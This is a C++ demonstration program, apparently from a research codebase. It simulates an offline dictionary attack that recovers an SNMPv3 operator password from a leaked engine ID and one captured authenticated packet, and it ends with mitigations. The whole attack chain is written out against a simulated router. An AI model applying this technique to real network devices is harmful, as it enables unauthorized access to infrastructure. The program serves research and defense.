// Offline SNMPv3 password recovery via the leaked engine ID (paper §8,
// citing Thomas 2021, "Brute forcing SNMPv3 authentication").
//
// The attack chain this example walks end-to-end:
//   1. The attacker sends one unauthenticated discovery probe and learns
//      the agent's engine ID (the paper's measurement primitive).
//   2. The attacker passively captures ONE authenticated management packet
//      (here: the simulated operator polling sysDescr).
//   3. Because the localized key depends only on (password, engine ID),
//      every dictionary candidate can be checked OFFLINE against the
//      captured HMAC. No further packets touch the network.
#include <chrono>
#include <cstdio>

#include "sim/agent.hpp"
#include "snmp/usm.hpp"
#include "topo/generator.hpp"

using namespace snmpv3fp;

int main() {
  using snmp::AuthProtocol;

  // --- the victim router, configured like the paper's lab device --------
  topo::OwnedDevice router;
  router.kind = topo::DeviceKind::kRouter;
  router.vendor = &topo::vendor_profile("Cisco");
  topo::Interface itf;
  itf.mac = net::MacAddress::from_oui(0x00000c, 0x31db80);
  itf.v4 = net::Ipv4(192, 0, 2, 1);
  router.set_interfaces({itf});
  router.snmpv3_enabled = true;
  router.engine_id = snmp::EngineId::make_mac(9, itf.mac);
  router.set_reboots({-30 * util::kDay});
  router.boots_before_history = 147;
  // The weak operator password.
  router.set_usm(
      {.name = "netops", .auth_password = "Summer2021!", .priv_password = {}});

  util::Rng rng(1);

  // --- step 1: unauthenticated discovery leaks the engine ID -------------
  const auto discovery = snmp::make_discovery_request(0x4a69, 0x37f0);
  const auto report = snmp::V3Message::decode(
      sim::handle_udp(router, discovery.encode(), 0, rng).front());
  const snmp::EngineId engine_id = report.value().usm.authoritative_engine_id;
  std::printf("[attacker] discovery leaked engineID=%s boots=%u time=%u\n",
              engine_id.to_hex().c_str(), report.value().usm.engine_boots,
              report.value().usm.engine_time);

  // --- step 2: capture one authenticated operator packet ------------------
  const auto operator_key = snmp::derive_localized_key(
      AuthProtocol::kHmacSha1_96, router.usm->auth_password, engine_id);
  auto poll = snmp::make_discovery_request(7000, 7001);
  poll.usm.authoritative_engine_id = engine_id;
  poll.usm.engine_boots = report.value().usm.engine_boots;
  poll.usm.engine_time = report.value().usm.engine_time;
  poll.usm.user_name = router.usm->name;
  poll.scoped_pdu.context_engine_id = engine_id.raw();
  poll.scoped_pdu.pdu.bindings = {{snmp::kOidSysDescr, snmp::VarValue::null()}};
  const auto captured =
      snmp::authenticate(AuthProtocol::kHmacSha1_96, operator_key, poll);
  std::printf("[attacker] captured authenticated GET (user '%s', MAC %s)\n",
              captured.usm.user_name.c_str(),
              util::to_hex(captured.usm.authentication_parameters).c_str());

  // The agent really accepts this capture (sanity: it is valid traffic).
  const auto response =
      sim::handle_udp(router, captured.encode(), 0, rng);
  std::printf("[agent]    answered the operator's GET: %zu response(s)\n",
              response.size());

  // --- step 3: offline dictionary attack ----------------------------------
  std::vector<std::string> dictionary;
  for (const char* stem : {"password", "admin", "cisco", "letmein", "Spring",
                           "Summer", "Autumn", "Winter"}) {
    for (const char* suffix : {"", "1", "123", "2020", "2021", "2021!"}) {
      dictionary.push_back(std::string(stem) + suffix);
    }
  }
  std::printf("[attacker] trying %zu candidate passwords offline...\n",
              dictionary.size());
  const auto start = std::chrono::steady_clock::now();
  const auto recovered = snmp::brute_force_password(
      AuthProtocol::kHmacSha1_96, captured, dictionary);
  const auto elapsed = std::chrono::duration<double>(
                           std::chrono::steady_clock::now() - start)
                           .count();
  if (recovered) {
    std::printf("[attacker] RECOVERED password '%s' in %.2f s (%.0f "
                "candidates/s)\n",
                recovered->c_str(), elapsed,
                static_cast<double>(dictionary.size()) / elapsed);
  } else {
    std::printf("[attacker] dictionary exhausted without a hit\n");
  }

  std::printf(
      "\nTakeaway (paper §8): a persistent, unauthenticated engine ID plus\n"
      "RFC 3414's offline-checkable key localization turns one captured\n"
      "packet into an offline password-cracking oracle. Mitigations: strong\n"
      "passwords, SNMPv3 over TLS (RFC 6353), and not deriving engine IDs\n"
      "from MAC addresses.\n");
  return recovered ? 0 : 1;
}
